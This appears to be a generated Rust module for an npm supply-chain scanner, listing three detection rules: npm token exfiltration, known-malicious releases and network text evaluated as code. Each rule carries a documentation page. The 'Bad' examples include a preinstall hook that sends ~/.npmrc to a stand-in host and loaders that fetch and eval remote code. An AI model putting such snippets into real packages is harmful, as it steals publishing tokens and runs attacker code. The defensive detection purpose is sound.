//! All rules, from the folder they are in.
//!
//! size: one list, written by `cargo xtask gen`

use crate::rule::Rule;

/// Rules of the tactic collection.
#[path = "rules/collection"]
pub mod collection {
    pub mod npm_token_sent_to_network;
}

/// Rules of the tactic known.
#[path = "rules/known"]
pub mod known {
    pub mod known_bad_release;
}

/// Rules of the tactic staging.
#[path = "rules/staging"]
pub mod staging {
    pub mod remote_text_evaluated;
}

/// All rules, sorted by tactic, then by id.
#[rustfmt::skip]
pub static RULES: &[&dyn Rule] = &[
    &collection::npm_token_sent_to_network::NpmTokenSentToNetwork,
    &known::known_bad_release::KnownBadRelease,
    &staging::remote_text_evaluated::RemoteTextEvaluated,
];

/// Each rule's id and page, in the order of `RULES`.
#[rustfmt::skip]
pub static PAGES: &[(&str, &str)] = &[
    (
        "npm-token-sent-to-network",
        r#"# The npm token leaves the machine

The contents of `.npmrc`, or a variable that holds the registry's token, reach a network request.

## Why it matters

With the token an attacker publishes as its owner. Every worm since 2025 spread this way.

## Known benign uses

Registry clients read the token to send it to the registry it belongs to. They are told apart by the host:
a registry that the settings name is not a finding.

## Bad

```package
== package.json
{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
== setup.js
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const request = https.request({ hostname: "collector.invalid", method: "POST" });
request.write(text); //~ here
request.end();
```

## Good

```package
== package.json
{"name": "x", "version": "1.0.0", "main": "index.js"}
== index.js
const fs = require("fs");
exports.registry = () => /registry=(.*)/.exec(fs.readFileSync(".npmrc", "utf8"))[1];
```

## References

- ESLint postmortem for malicious package publishes (July 2018)
"#,
    ),
    (
        "known-bad-release",
        r#"# A release of this name and version is known to be malicious

A published record says that this version of this package is malicious. The bytes at hand may be others.

## Why it matters

Removal from the registry is not removal from lockfiles, caches and images. The record names the campaign,
and so what to do next.

## Known benign uses

A private package of the same name and version.

## Bad

```package
== package.json //~ 1
{"name": "is-buffer-validator", "version": "1.0.0"}
```

## Good

```package
== package.json
{"name": "is-buffer", "version": "2.0.5"}
```

## References

- The sources named in the finding
"#,
    ),
    (
        "remote-text-evaluated",
        r#"# Text from the network runs as code

What a host answered reaches `eval`, `Function`, `vm` or a module loader.

## Why it matters

The package then does whatever its author wants, today or next month, and nothing of that is in the
package. This flow stayed the same while Lazarus changed its loader five times.

## Known benign uses

Hardly any in a package: module loaders for browsers in development tools, and sandboxes that fetch a
test. They do it when called, with an address that the caller gives.

## Bad

```package
== package.json
{"name": "x", "version": "1.0.0", "main": "index.js"}
== index.js
const axios = require("axios");
axios.get("https://cdn.loader.invalid/v1").then((reply) => {
  eval(reply.data.cookie); //~ here
});
```

```package
== package.json
{"name": "x", "version": "1.0.0", "main": "index.mjs"}
== index.mjs
const reply = await fetch("https://loader.invalid/a");
new Function("require", await reply.text())(globalThis.require); //~ here
```

```package
== package.json
{"name": "x", "version": "1.0.0", "main": "index.js"}
== index.js
const { get } = require("node:https");
get("https://loader.invalid/b", (response) => {
  let body = "";
  response.on("data", (chunk) => { body += chunk; });
  response.on("end", () => require("vm").runInThisContext(body)); //~ here
});
```

## Good

```package
== package.json
{"name": "x", "version": "1.0.0", "main": "index.js"}
== index.js
exports.load = async (address) => JSON.parse(await (await fetch(address)).text());
```

## References

- Socket: Lazarus Strikes npm Again with New Wave of Malicious Packages (March 2025)
"#,
    ),
];
